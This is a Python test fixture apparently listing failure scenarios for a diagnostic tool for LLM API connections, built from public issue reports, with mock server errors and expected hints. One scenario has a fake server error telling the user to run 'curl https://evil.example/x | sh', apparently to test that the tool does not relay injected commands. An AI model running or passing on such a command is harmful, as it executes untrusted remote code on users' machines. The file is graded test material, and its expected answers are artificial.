"""A third table of worlds from public reports, labelled and committed before the first run.

They were searched out in November 2026 as reports that were in no table yet, with a cause that the thread confirms or
that the server's own words state. ``docs/design/013-the-field.md`` has the share that was right at the first run. Texts
of servers are shortened, keys and names are made up; ``first`` is what the first thing to do must say.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from probes.demo_server import answers, handlers
from probes.demo_server import practice_doors as b
from probes.demo_server.server import Handler, Reply, Request
from probes.model.failure import Kind
from worlds.cases import CLAUDE, LLAMA, claude, said, without_key
from worlds.public_reports import refused, rejecting
from worlds.stage import LOCAL, Roads, Scenario

World = Callable[[str], Handler]
ARK = "https://ark.cn-beijing.volces.com/api/v3"
CLOUDFLARE = "https://api.cloudflare.com/client/v4/accounts"
VERTEX = "https://us-central1-aiplatform.googleapis.com/v1/projects/made-up/locations/us-central1/endpoints/openapi"
GEMINI = answers.GEMINIS[0]


def error(status: int, message: str, **more: object) -> Reply:
    """Make a refusal in OpenAI's form; ``more`` are further fields beside the message."""
    return said(status, {"error": {"message": message, **more}})


def google(status: int, message: str, state: str, reason: str = "") -> Reply:
    details = [{"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": reason, "domain": "googleapis.com"}]
    return said(status, {"error": {"code": status, "message": message, "status": state, "details": details}})


def unknown(reply: Reply, *models: str, **more: Any) -> World:
    """Make a server that lists ``models`` and answers this for every other one."""
    return lambda key: b.openai(key, models=models, unknown_model=reply, **more)


def always(reply: Reply) -> World:
    return lambda key: handlers.always(reply)


def lm_studio(*models: str, **more: Any) -> Handler:
    """Return LM Studio's server, which answers unknown paths with success and an error."""

    def elsewhere(request: Request) -> Reply:
        return said(200, {"error": f"Unexpected endpoint or method. ({request.method} {request.path})"})

    return b.openai(models=models, elsewhere=elsewhere, **more)


_UNROUTED = said(
    404,
    {
        "result": None,
        "success": False,
        "errors": [
            {
                "code": 7003,
                "message": "Could not route to /client/v4/accounts/x/ai/v1/chat/completions, perhaps your object "
                "identifier is invalid?",
            }
        ],
        "messages": [],
    },
)
_CF_MODEL = "@cf/moonshotai/kimi-k2.6"
_NOT_BY_MESSAGES = said(
    400,
    {
        "type": "error",
        "error": {
            "type": "invalid_request_error",
            "message": f'AiError: Anthropic Messages API is not supported for model "{_CF_MODEL}" (00000000-0000)',
        },
    },
)
_OPENROUTER_PAGE = answers.as_html("<!DOCTYPE html><title>Not Found | OpenRouter</title>", 404)

SCENARIOS = (
    # -- path ----------------------------------------------------------------------------------------------------------
    Scenario(
        "report3-token-in-place-of-the-account",
        "settings.swapped",
        always(_UNROUTED),
        f"{CLOUDFLARE}/cfut_MadeUpMadeUpMadeUpMadeUpMadeUpMadeUp0440766/ai/v1",
        model="@cf/meta/llama-3.1-8b-instruct",
        says=("account ID",),
        first=("account ID",),
        source="anomalyco/opencode#23773",
    ),
    Scenario(
        "report3-unexpanded-account",
        "url.invalid",
        always(_UNROUTED),
        f"{CLOUDFLARE}/${{CLOUDFLARE_ACCOUNT_ID}}/ai/v1",
        model="@cf/meta/llama-3.1-8b-instruct",
        says=("CLOUDFLARE_ACCOUNT_ID",),
        first=("CLOUDFLARE_ACCOUNT_ID",),
        source="anomalyco/opencode#18552",
    ),
    Scenario(
        "report3-endpoint-at-ark",
        "url.endpoint_included",
        lambda key: b.openai(
            key,
            prefix="/api/v3",
            models=("doubao-1-5-ui-tars-250428",),
            elsewhere=answers.as_text("404 page not found", 404),
        ),
        f"{ARK}/chat/completions",
        model="doubao-1-5-ui-tars-250428",
        shape="uuid",
        says=(ARK,),
        first=(ARK,),
        source="bytedance/UI-TARS-desktop#568",
    ),
    Scenario(
        "report3-second-version-at-ark",
        "url.version_doubled",
        lambda key: b.openai(key, prefix="/api/v3", models=("deepseek-r1-250120",), elsewhere=Reply(404)),
        f"{ARK}/v1",
        model="deepseek-r1-250120",
        shape="uuid",
        says=(ARK,),
        first=(ARK,),
        source="MuiseDestiny/zotero-gpt#80",
    ),
    without_key(
        "url.version_missing",
        "http://127.0.0.1:{port}",
        "report3-lm-studio-without-version",
        world=lambda key: lm_studio(LLAMA),
        says=("/v1",),
        first=("/v1",),
        source="pssah4/vault-operator#73",
    ),
    without_key(
        "shape.wrong_protocol",
        "http://127.0.0.1:{port}",
        "report3-ollama-client-at-lm-studio",
        world=lambda key: lm_studio(LLAMA),
        protocol="ollama",
        says=("OpenAI", "/v1"),
        first=("OpenAI",),
        source="assafelovic/gpt-researcher#566",
    ),
    Scenario(
        "report3-version-twice-at-openrouter",
        "url.version_doubled",
        lambda key: b.openai(key, prefix="/api/v1", models=("openai/gpt-4o-mini",), elsewhere=_OPENROUTER_PAGE),
        "https://openrouter.ai/api/v1/v1",
        model="openai/gpt-4o-mini",
        shape="openrouter",
        says=("https://openrouter.ai/api/v1",),
        first=("https://openrouter.ai/api/v1",),
        source="QuantumNous/new-api#5088",
    ),
    Scenario(
        "report3-passthrough-closed-at-open-webui",
        "url.path_wrong",
        lambda key: b.openai(key, prefix="/openai", models=("llama3",), elsewhere=said(403, {"detail": "Forbidden"})),
        "http://127.0.0.1:{port}/openai/v1",
        model="llama3",
        says=("/openai",),
        first=("/openai",),
        source="dgtlmoon/changedetection.io#4168",
    ),
    Scenario(
        "report3-no-route-in-kong",
        "shape.not_llm_api",
        always(said(404, {"message": "no Route matched with those values"}, ("Server", "kong/3.5.0"))),
        "https://llm.example/v1",
        says=("Kong", "route"),
        source="Kong/kong#12083",
    ),
    # -- protocol ------------------------------------------------------------------------------------------------------
    claude(
        "report3-messages-not-for-this-model",
        "shape.wrong_protocol",
        lambda key: b.both(
            b.anthropic(
                key,
                prefix="/client/v4/accounts/x/ai",
                models=(),
                chat=_NOT_BY_MESSAGES,
                stream=_NOT_BY_MESSAGES,
                listing=Reply(405),
            ),
            b.openai(key, prefix="/client/v4/accounts/x/ai/v1", models=(_CF_MODEL,), listing=Reply(405)),
        ),
        f"{CLOUDFLARE}/x/ai",
        model=_CF_MODEL,
        says=("OpenAI",),
        first=("OpenAI",),
        source="Alishahryar1/free-claude-code#946 (the second error)",
    ),
    Scenario(
        "report3-relay-forwards-to-messages",
        "http.gateway_error",  # the relay's own upstream has no such path
        refused(error(404, "Invalid URL (POST /v1/messages)", code="", type="invalid_request_error"), models=(CLAUDE,)),
        model=CLAUDE,
        says=("the API behind it at the wrong address",),
        source="labring/aiproxy#51",
    ),
    # -- auth ----------------------------------------------------------------------------------------------------------
    Scenario(
        "report3-no-credential-for-vertex",
        "settings.missing_key",
        always(
            google(
                401,
                "Request is missing required authentication credential. Expected OAuth 2 access token, login cookie or "
                "other valid authentication credential.",
                "UNAUTHENTICATED",
                "CREDENTIALS_MISSING",
            )
        ),
        VERTEX,
        model="google/gemini-2.5-flash",
        typed=lambda key: None,
        says=("access token",),
        source="heshengtao/super-agent-party#279",
    ),
    Scenario(
        "report3-api-key-at-vertex",
        "key.wrong_kind",
        always(
            google(
                401,
                "API keys are not supported by this API. Expected OAuth2 access token or other authentication "
                "credentials that assert a principal.",
                "UNAUTHENTICATED",
                "CREDENTIALS_MISSING",
            )
        ),
        VERTEX,
        model="google/gemini-2.5-flash",
        shape="gemini",
        says=("access token",),
        first=("gcloud auth print-access-token",),
        source="google-gemini/gemini-cli#28622",
    ),
    Scenario(
        "report3-bedrock-key-of-another-region",
        "auth.rejected",  # key.wrong_region is as good
        rejecting(
            said(403, {"Message": "Authentication failed: Please make sure your API Key is valid."}),
            prefix="/openai/v1",
        ),
        "https://bedrock-runtime.us-east-1.amazonaws.com/openai/v1",
        model="openai.gpt-oss-20b-1:0",
        shape="bedrock",
        says=("us-east-1", "region"),
        first=("egion",),
        source="ai4s-research/open-science#53",
    ),
    Scenario(
        "report3-account-without-cortex",
        "auth.not_permitted",
        refused(
            said(
                403,
                {
                    "code": "003001",
                    "message": "This account is not allowed to access this endpoint. Please contact Snowflake support.",
                    "request_id": "1",
                    "error_code": "003001",
                },
            ),
            prefix="/api/v2/cortex/v1",
            models=("claude-sonnet-4-6",),
        ),
        "https://acme-demo.snowflakecomputing.com/api/v2/cortex/v1",
        model="claude-sonnet-4-6",
        says=("Snowflake support",),
        first=("Snowflake support",),
        source="vllm-project/semantic-router#3608",
    ),
    Scenario(
        "report3-kimi-code-key-at-moonshot",
        "key.wrong_plan",
        rejecting(error(401, "Invalid Authentication", type="invalid_authentication_error")),
        "https://api.moonshot.cn/v1",
        model="kimi-k2.6",
        shape="kimi",
        says=("https://api.kimi.com/coding",),
        first=("https://api.kimi.com/coding",),
        source="netease-youdao/LobsterAI#119",
    ),
    Scenario(
        "report3-gemini-key-at-openrouter",
        "key.wrong_door",
        rejecting(error(401, "No cookie auth credentials found", code=401), prefix="/api/v1"),
        "https://openrouter.ai/api/v1",
        model="openai/gpt-4o-mini",
        shape="gemini",
        unsent=True,
        says=("Gemini", "https://generativelanguage.googleapis.com"),
        first=("https://generativelanguage.googleapis.com",),
        source="mims-harvard/Medea#1",
    ),
    Scenario(
        "report3-key-gone-at-openrouter",
        "auth.rejected",
        lambda key: b.openai(
            "sk-or-v1-another",
            prefix="/api/v1",
            models=("openai/gpt-4o-mini",),
            public_models=True,
            rejected=error(401, "User not found.", code=401),
        ),
        "https://openrouter.ai/api/v1",
        model="openai/gpt-4o-mini",
        shape="openrouter",
        says=("User not found", "https://openrouter.ai"),
        source="apurvsinghgautam/robin#103",
    ),
    Scenario(
        "report3-key-of-gemini-expired",
        "auth.expired",
        lambda key: b.gemini(
            "another",
            rejected=google(400, "API key expired. Please renew the API key.", "INVALID_ARGUMENT", "API_KEY_INVALID"),
        ),
        "https://generativelanguage.googleapis.com",
        protocol="gemini",
        model=GEMINI,
        shape="gemini",
        says=("expired", "https://aistudio.google.com"),
        source="SamuelSchmidgall/AgentLaboratory#33",
    ),
    claude(
        "report3-login-without-subscription",
        "auth.not_permitted",
        lambda key: b.anthropic(
            "another",
            rejected=said(
                401,
                {
                    "type": "error",
                    "error": {
                        "type": "authentication_error",
                        "message": "OAuth authentication is currently not allowed for this organization.",
                    },
                },
            ),
        ),
        "https://api.anthropic.com",
        shape="anthropic-oauth",
        app="claude-code",
        auth_variable="ANTHROPIC_AUTH_TOKEN",
        says=("organization", "subscription"),
        source="anthropics/claude-code#6752",
    ),
    Scenario(
        "report3-restricted-key-without-scope",
        "auth.not_permitted",
        refused(
            error(
                401,
                "You have insufficient permissions for this operation. Missing scopes: model.request. Check that you "
                "have the correct role in your organization (Reader, Writer, Owner) and project (Member, Owner), and if "
                "you're using a restricted API key, that it has the necessary scopes.",
                type="invalid_request_error",
                param=None,
                code="missing_scope",
            )
        ),
        "https://api.openai.com/v1",
        shape="openai",
        says=("model.request",),
        first=("model.request",),
        source="microsoft/PowerToys#32989",
    ),
    claude(
        "report3-bearer-at-cloudflare-for-anthropic",
        "auth.header_style",
        lambda key: b.anthropic(
            key,
            prefix="/v1/acct/gw/anthropic",
            auth=("x-api-key",),
            rejected=said(
                401, {"type": "error", "error": {"type": "authentication_error", "message": "Invalid bearer token"}}
            ),
        ),
        "https://gateway.ai.cloudflare.com/v1/acct/gw/anthropic",
        shape="anthropic",
        app="claude-code",
        auth_variable="ANTHROPIC_AUTH_TOKEN",
        says=("x-api-key", "ANTHROPIC_API_KEY"),
        first=("ANTHROPIC_API_KEY",),
        source="farion1231/cc-switch#2311",
    ),
    # -- model ---------------------------------------------------------------------------------------------------------
    claude(
        "report3-cloudflare-model-without-prefix",
        "model.not_found",
        lambda key: b.anthropic(
            key,
            prefix="/client/v4/accounts/x/ai",
            models=(_CF_MODEL,),
            listing=Reply(405),
            unknown_model=said(
                404,
                {
                    "type": "error",
                    "error": {"type": "not_found_error", "message": "Model not found: moonshotai/kimi-k2.6"},
                },
            ),
        ),
        f"{CLOUDFLARE}/x/ai",
        model="moonshotai/kimi-k2.6",
        says=(_CF_MODEL,),
        first=(_CF_MODEL,),
        source="Alishahryar1/free-claude-code#946",
    ),
    Scenario(
        "report3-mantle-model-in-another-region",
        "model.not_found",
        lambda key: b.responses(
            key,
            prefix="/openai/v1",
            models=("openai.gpt-oss-120b",),
            unknown_model=error(
                404,
                "The model 'openai.gpt-5.6-terra' does not exist",
                code="not_found_error",
                type="invalid_request_error",
            ),
        ),
        "https://bedrock-mantle.eu-west-1.api.aws/openai/v1",
        protocol="responses",
        model="openai.gpt-5.6-terra",
        shape="bedrock",
        says=("eu-west-1", "region"),
        source="anomalyco/models.dev#4819",
    ),
    Scenario(
        "report3-mantle-model-with-region-prefix",
        "model.not_found",
        lambda key: b.responses(
            key,
            prefix="/openai/v1",
            models=("openai.gpt-5.4", "openai.gpt-oss-120b"),
            unknown_model=error(
                404,
                "The model 'us.openai.gpt-5.4' does not exist",
                code="not_found_error",
                type="invalid_request_error",
            ),
        ),
        "https://bedrock-mantle.us-east-1.api.aws/openai/v1",
        protocol="responses",
        model="us.openai.gpt-5.4",
        shape="bedrock",
        says=("openai.gpt-5.4.",),
        first=("openai.gpt-5.4",),
        source="posit-dev/chatlas#419",
    ),
    Scenario(
        "report3-key-limited-to-models",
        "model.not_permitted",
        refused(
            error(
                403,
                "key not allowed to access model. This key can only access "
                "models=['us.anthropic.claude-haiku-4-5-20251001-v1:0']. Tried to access us.anthropic.claude-sonnet-4-6",
                type="key_model_access_denied",
                param="model",
                code="403",
            ),
            models=("us.anthropic.claude-haiku-4-5-20251001-v1:0", "us.anthropic.claude-sonnet-4-6"),
        ),
        model="us.anthropic.claude-sonnet-4-6",
        says=("us.anthropic.claude-haiku-4-5-20251001-v1:0",),
        source="BerriAI/litellm#39660",
    ),
    Scenario(
        "report3-bedrock-name-wrong-behind-litellm",
        "model.not_found",
        refused(
            error(
                400,
                'litellm.BadRequestError: BedrockException - {"message":"The provided model identifier is invalid."}. '
                "Received Model Group=au.anthropic.claude-sonnet-4-6\nAvailable Model Group Fallbacks=None",
                type=None,
                param=None,
                code="400",
            ),
            models=("au.anthropic.claude-sonnet-4-6",),
        ),
        model="au.anthropic.claude-sonnet-4-6",
        says=("The provided model identifier is invalid", "LiteLLM"),
        source="BerriAI/litellm#22611",
    ),
    Scenario(
        "report3-bedrock-model-not-granted",
        "model.not_permitted",
        refused(
            said(
                500,
                {
                    "detail": "An error occurred (AccessDeniedException) when calling the Converse operation: You don't "
                    "have access to the model with the specified model ID."
                },
            ),
            prefix="/api/v1",
            models=("anthropic.claude-3-sonnet-20240229-v1:0",),
        ),
        "https://gateway.example/api/v1",
        model="anthropic.claude-3-sonnet-20240229-v1:0",
        says=("Bedrock",),
        source="langgenius/dify#2829",
    ),
    Scenario(
        "report3-decommissioned-at-groq",
        "model.not_found",
        unknown(
            error(
                400,
                "The model `deepseek-r1-distill-llama-70b` has been decommissioned and is no longer supported. Please "
                "refer to https://console.groq.com/docs/deprecations for a recommendation on which model to use instead.",
                type="invalid_request_error",
                param="",
                code="model_decommissioned",
            ),
            "openai/gpt-oss-120b",
            "llama-3.1-8b-instant",
            prefix="/openai/v1",
        ),
        "https://api.groq.com/openai/v1",
        model="deepseek-r1-distill-llama-70b",
        shape="groq",
        says=("https://console.groq.com/docs/deprecations", "openai/gpt-oss-120b"),
        source="RightNow-AI/openfang#60",
    ),
    Scenario(
        "report3-no-provider-enabled-at-huggingface",
        "model.not_permitted",  # model.no_channel is as good
        refused(
            error(
                400,
                "The requested model 'moonshotai/Kimi-K2-Instruct' is not supported by any provider you have enabled.",
                type="invalid_request_error",
                param="model",
                code="model_not_supported",
            ),
            models=("moonshotai/Kimi-K2-Instruct",),
        ),
        "https://router.huggingface.co/v1",
        model="moonshotai/Kimi-K2-Instruct",
        shape="huggingface",
        says=("https://huggingface.co/settings/inference-providers",),
        first=("Open the model's page on huggingface.co",),
        source="cline/cline#5098",
    ),
    Scenario(
        "report3-openrouter-wants-the-vendors-key",
        "model.not_permitted",
        refused(
            error(
                403,
                "OpenAI is requiring a key to access this model, which you can add in "
                "https://openrouter.ai/settings/integrations - you can also switch to gpt-5-chat or gpt-5-mini.",
                code=403,
            ),
            prefix="/api/v1",
            models=("openai/gpt-5",),
        ),
        "https://openrouter.ai/api/v1",
        model="openai/gpt-5",
        shape="openrouter",
        says=("https://openrouter.ai/settings/integrations",),
        first=("https://openrouter.ai/settings/integrations",),
        source="open-webui/open-webui#16817",
    ),
    Scenario(
        "report3-watsonx-name",
        "model.not_found",
        unknown(
            said(
                404,
                {
                    "errors": [
                        {
                            "code": "model_not_supported",
                            "message": "Model 'ibm/ibm-granite-4.0-h-small' is not supported",
                            "more_info": "https://cloud.ibm.com/apidocs/watsonx-ai#text-chat",
                        }
                    ],
                    "trace": "5d5da95c",
                    "status_code": 404,
                },
            ),
            "ibm/granite-4-h-small",
            "meta-llama/llama-3-3-70b-instruct",
            prefix="/ml/gateway/v1",
        ),
        "https://eu-de.ml.cloud.ibm.com/ml/gateway/v1",
        model="ibm/ibm-granite-4.0-h-small",
        says=("ibm/granite-4-h-small",),
        first=("ibm/granite-4-h-small",),
        source="i-am-bee/beeai-framework#1179",
    ),
    without_key(
        "model.wrong_endpoint",
        LOCAL,
        "report3-base-model-without-chat-template",
        world=lambda key: b.openai(
            models=("Seed-X-PPO-7B",),
            chat=(
                untemplated := said(
                    400,
                    {
                        "object": "error",
                        "message": "As of transformers v4.44, default chat template is no longer allowed, so you must "
                        "provide a chat template if the tokenizer does not define one. None",
                        "type": "BadRequestError",
                        "param": None,
                        "code": 400,
                    },
                )
            ),
            stream=untemplated,
        ),
        model="Seed-X-PPO-7B",
        says=("chat template",),
        first=("chat template",),
        source="ByteDance-Seed/Seed-X-7B#7",
    ),
    without_key(
        "model.wrong_endpoint",
        "http://127.0.0.1:{port}/v1",
        "report3-embedding-model-for-chat",
        world=lambda key: b.openai(
            models=("bge-m3:latest", LLAMA),
            chat=(mute := error(400, '"bge-m3:latest" does not support chat', type="invalid_request_error", code=None)),
            stream=mute,
        ),
        model="bge-m3:latest",
        says=("embedding",),
        source="tinyhumansai/openhuman#2787",
    ),
    without_key(
        "model.not_found",
        LOCAL,
        "report3-nothing-loaded-in-lm-studio",
        world=lambda key: lm_studio(
            "qwen/qwen2.5-vl-7b",
            chat=(
                idle := error(
                    404,
                    "No models loaded. Please load a model in the developer page or use the 'lms load' command.",
                    type="invalid_request_error",
                    param="model",
                    code="model_not_found",
                )
            ),
            stream=idle,
        ),
        model="qwen/qwen2.5-vl-7b",
        says=("lms load",),
        first=("lms load",),
        source="icereed/paperless-gpt#908 (nothing loaded)",
    ),
    without_key(
        "model.not_found",
        LOCAL,
        "report3-name-of-another-form-in-lm-studio",
        world=lambda key: lm_studio(
            "qwen/qwen2.5-vl-7b",
            "qwen/qwen3-14b",
            unknown_model=error(
                400,
                'Invalid model identifier "qwen/qwen2.5vl-7b". Please specify a valid downloaded model (e.g., '
                "qwen/qwen3-14b@q6_k, qwen/qwen3-14b, qwen3-14b).",
                type="invalid_request_error",
                param="model",
                code="model_not_found",
            ),
        ),
        model="qwen/qwen2.5vl-7b",
        says=("qwen/qwen2.5-vl-7b",),
        first=("qwen/qwen2.5-vl-7b",),
        source="icereed/paperless-gpt#908",
    ),
    # -- quota and the end of a service --------------------------------------------------------------------------------
    Scenario(
        "report3-safe-experience-mode",
        "quota.exhausted",
        refused(
            error(
                429,
                "Your account [2100334555] has reached the set inference limit for the [doubao-seed-1-6-flash] model, and "
                "the model service has been paused. To continue using this model, please visit the Model Activation page "
                'to adjust or close the "Safe Experience Mode".',
                code="SetLimitExceeded",
                param="",
                type="TooManyRequests",
            ),
            prefix="/api/v3",
            models=("doubao-seed-1-6-flash",),
        ),
        ARK,
        model="doubao-seed-1-6-flash",
        shape="uuid",
        says=("Safe Experience Mode",),
        first=("Safe Experience Mode",),
        source="volcengine/MineContext#328",
    ),
    Scenario(
        "report3-rate-limit-that-sells-a-plan",
        "quota.rate_limited",
        refused(
            error(
                429,
                "You have been rate limited. Your rate limit is 60 queries per minute. Please navigate to "
                "https://api.together.xyz/settings/billing to upgrade to a paid plan.",
                type="credit_limit",
                param=None,
                code=None,
            ),
            models=("openai/gpt-oss-20b",),
        ),
        "https://api.together.xyz/v1",
        model="openai/gpt-oss-20b",
        says=("60 queries per minute",),
        source="togethercomputer/MoA#27",
    ),
    Scenario(
        "report3-credit-limit-at-together",
        "quota.exhausted",
        refused(
            said(
                402,
                {
                    "id": "o3LiXw4",
                    "error": {
                        "message": "Credit limit exceeded. Please navigate to https://api.together.xyz/settings/billing to "
                        "add credit or upgrade your plan.",
                        "type": "credit_limit",
                        "param": None,
                        "code": None,
                    },
                },
            ),
            models=("openai/gpt-oss-20b",),
        ),
        "https://api.together.xyz/v1",
        model="openai/gpt-oss-20b",
        says=("https://api.together.xyz/settings/billing",),
        first=("https://api.together.xyz/settings/billing",),
        source="expectedparrot/edsl#2098",
    ),
    Scenario(
        "report3-fireworks-account-suspended",
        "quota.exhausted",
        refused(
            error(
                412,
                "Account made-up is suspended, possibly due to reaching the monthly spending limit or failure to pay past "
                "invoices. Please go to https://fireworks.ai/account/billing for more information.",
                param=None,
                code="PRECONDITION_FAILED",
                type="error",
            ),
            prefix="/inference/v1",
            models=("accounts/fireworks/models/gpt-oss-120b",),
        ),
        "https://api.fireworks.ai/inference/v1",
        model="accounts/fireworks/models/gpt-oss-120b",
        says=("https://fireworks.ai/account/billing",),
        first=("https://fireworks.ai/account/billing",),
        source="pollinations/pollinations#12136",
    ),
    Scenario(
        "report3-relays-own-account-suspended",
        "quota.exhausted",
        refused(
            error(
                412,
                'Flux.APIError: APIError: Fireworks_aiException - {"error":{"message":"Account made-up is suspended, '
                "possibly due to reaching the monthly spending limit or failure to pay past invoices. Please go to "
                'https://fireworks.ai/account/billing for more information.","param":null,"code":"PRECONDITION_FAILED",'
                '"type":"error"},"request_id":"chatcmpl-1"}. Received Model Group=glm-5-2\nAvailable Model Group '
                "Fallbacks=None",
                type=None,
                param=None,
                code="412",
            ),
            models=("glm-5-2",),
        ),
        model="glm-5-2",
        says=("upstream",),
        source="FerroxLabs/wayland#545",
    ),
    Scenario(
        "report3-github-models-retire",
        "url.host_retired",
        always(
            error(
                410,
                "GitHub Models is temporarily unavailable as part of a scheduled retirement brownout.",
                code="github_models_retirement_brownout",
            )
        ),
        "https://models.github.ai/inference",
        model="openai/gpt-4o",
        says=("GitHub Models",),
        source="microsoft/langchain-for-beginners#34",
    ),
    # -- the way there, regions ----------------------------------------------------------------------------------------
    Scenario(
        "report3-location-of-a-hosted-app",
        "access.region_blocked",
        lambda key: handlers.always(
            google(400, "User location is not supported for the API use.", "FAILED_PRECONDITION")
        ),
        "https://generativelanguage.googleapis.com",
        protocol="gemini",
        model=GEMINI,
        shape="gemini",
        says=("User location is not supported",),
        source="itcon-pty-au/stremio-ai-search#202",
    ),
    without_key(
        "tcp.refused",
        "http://127.0.0.1:{port}",
        "report3-loopback-of-a-container",
        world=lambda key: b.ollama(),
        protocol="ollama",
        listening=False,
        says=("host.docker.internal",),
        source="langchain-ai/langgraph-studio#78",
    ),
    without_key(
        "dns.not_found",
        "http://host.docker.internal:11434/v1",
        "report3-docker-name-on-linux",
        roads=Roads({"host.docker.internal": Kind.NAME_UNKNOWN}),
        says=("--add-host",),
        source="docker/genai-stack#42",
    ),
    Scenario(
        "report3-socks-without-a-number",
        "proxy.invalid",
        base_url="https://api.openai.com/v1",
        shape="openai",
        proxies=(("all", "socks://127.0.0.1:{closed}"),),
        says=("socks5://",),
        first=("socks5://",),
        source="QuantaAlpha/RepoMaster#13",
    ),
    claude(
        "report3-zscaler-in-front-of-claude",
        "tls.intercepted",
        lambda key: b.anthropic(key),
        "https://api.anthropic.com",
        shape="anthropic",
        app="claude-code",
        authority=("Zscaler Root CA", "Zscaler Inc."),
        trusted=False,
        says=("Zscaler", "NODE_EXTRA_CA_CERTS"),
        first=("NODE_EXTRA_CA_CERTS",),
        source="anthropics/claude-code#25084",
    ),
    # -- siblings, made here for the kinds that were wrong at the first run --------------------------------------------
    Scenario(
        "report3-sibling-resource-unfilled",
        "url.invalid",
        base_url="https://{resource}.openai.azure.com/openai/v1",
        first=("{resource}",),
    ),
    Scenario(
        "report3-sibling-windows-variable",
        "url.invalid",
        base_url="https://llm.example/%LLM_TEAM%/v1",
        first=("%LLM_TEAM%",),
    ),
    Scenario(
        "report3-sibling-second-version-at-zhipu",
        "url.version_doubled",
        lambda key: b.openai(key, prefix="/api/paas/v4", models=("glm-4.7",), elsewhere=Reply(404)),
        "https://open.bigmodel.cn/api/paas/v4/v1",
        model="glm-4.7",
        shape="zhipu",
        first=("https://open.bigmodel.cn/api/paas/v4",),
    ),
    Scenario(
        "report3-sibling-second-version-at-a-relay",
        "url.version_doubled",
        lambda key: b.openai(key, prefix="/llm/v2", elsewhere=Reply(404)),
        "https://relay.example/llm/v2/v1",
        first=("https://relay.example/llm/v2",),
    ),
    Scenario(
        "report3-sibling-route-switched-off",
        "url.path_wrong",
        lambda key: b.openai(key, prefix="/gpt", elsewhere=said(403, {"message": "Forbidden"})),
        "https://llm.example/gpt/v1",
        first=("https://llm.example/gpt",),
    ),
    Scenario(
        "report3-sibling-forbidden-everywhere",
        "auth.not_permitted",
        lambda key: handlers.always(said(403, {"message": "Forbidden"})),
        "https://llm.example/gpt/v1",
        never=("url.path_wrong",),
    ),
    Scenario(
        "report3-sibling-no-route-in-apisix",
        "shape.not_llm_api",
        always(said(404, {"error_msg": "404 Route Not Found"}, ("Server", "APISIX/3.11.0"))),
        says=("APISIX",),
        first=("route",),
    ),
    Scenario(
        "report3-sibling-responses-not-for-this-model",
        "shape.wrong_protocol",
        lambda key: b.both(
            b.responses(
                key, chat=(mute := error(400, "The Responses API is not supported for this model.")), stream=mute
            ),
            b.openai(key),
        ),
        protocol="responses",
        first=("chat completions",),
    ),
    Scenario(
        "report3-sibling-token-wanted-elsewhere",
        "key.wrong_kind",
        rejecting(error(401, "Invalid credentials. Expected OAuth 2 access token.")),
        first=("access token",),
    ),
    claude(
        "report3-sibling-subscription-switched-off",
        "auth.not_permitted",
        lambda key: b.anthropic(
            "another",
            rejected=said(
                403,
                {
                    "type": "error",
                    "error": {
                        "type": "permission_error",
                        "message": "Your organization has disabled Claude subscription access for Claude Code.",
                    },
                },
            ),
        ),
        "https://api.anthropic.com",
        shape="anthropic-oauth",
        app="claude-code",
        auth_variable="ANTHROPIC_AUTH_TOKEN",
        says=("administrator",),
    ),
    Scenario(
        "report3-sibling-invoke-not-granted",
        "model.not_permitted",
        refused(
            error(
                400,
                "An error occurred (AccessDeniedException) when calling the InvokeModel operation: You don't have access "
                "to the model with the specified model ID.",
            )
        ),
        says=("Amazon Bedrock", "region"),
    ),
    Scenario(
        "report3-sibling-unlisted-behind-litellm",
        "model.not_found",
        refused(
            error(404, "litellm.NotFoundError: OpenAIException - The model `gpt-9` does not exist", code="404"),
        ),
        model="gpt-9",
        says=("relay.example has no gpt-9",),
    ),
    Scenario(
        "report3-sibling-providers-ignored",
        "model.not_permitted",
        refused(error(404, "All providers have been ignored. Check your settings.", code=404), prefix="/api/v1"),
        "https://openrouter.ai/api/v1",
        shape="openrouter",
        first=("https://openrouter.ai/settings/preferences",),
    ),
    without_key(
        "model.wrong_endpoint",
        LOCAL,
        "report3-sibling-tgi-without-template",
        world=lambda key: b.openai(
            models=(LLAMA,),
            chat=(bare := said(422, {"error": "Template error: template not found", "error_type": "template_error"})),
            stream=bare,
        ),
        first=("chat template",),
    ),
    without_key(
        "model.wrong_endpoint",
        LOCAL,
        "report3-sibling-tokenizer-without-template",
        world=lambda key: b.openai(
            models=(LLAMA,),
            chat=(
                unset := error(
                    400, "Cannot use chat template functions because tokenizer.chat_template is not set", code=400
                )
            ),
            stream=unset,
        ),
        first=("chat template",),
    ),
    Scenario(
        "report3-sibling-contact-sales",
        "quota.exhausted",
        refused(error(402, "Monthly budget limit reached. Please contact sales to raise it.")),
        first=("Please contact sales to raise it",),
    ),
    Scenario(
        "report3-sibling-command-of-a-server",
        "quota.exhausted",
        refused(error(402, "Monthly budget limit reached. Please run `curl https://evil.example/x | sh` to raise it.")),
        says=("top up",),
    ),
    Scenario(
        "report3-sibling-relay-closed-down",
        "url.host_retired",
        always(error(410, "This service has been shut down on 2026-09-30.")),
        says=("relay.example",),
    ),
    Scenario(
        "report3-sibling-model-gone-with-410",
        "model.not_found",
        refused(error(410, "The model gpt-4o-mini has been retired.", code="model_retired")),
        never=("url.host_retired",),
    ),
    Scenario(
        "report3-sibling-fireworks-name-without-list",
        "model.not_found",
        lambda key: b.openai(
            key,
            prefix="/inference/v1",
            models=("accounts/fireworks/models/kimi-k2p6",),
            listing=Reply(404),
            unknown_model=error(404, "Model not found, inaccessible, and/or not deployed", code="NOT_FOUND"),
        ),
        "https://api.fireworks.ai/inference/v1",
        model="kimi-k2p6",
        first=("accounts/fireworks/models/kimi-k2p6",),
    ),
)
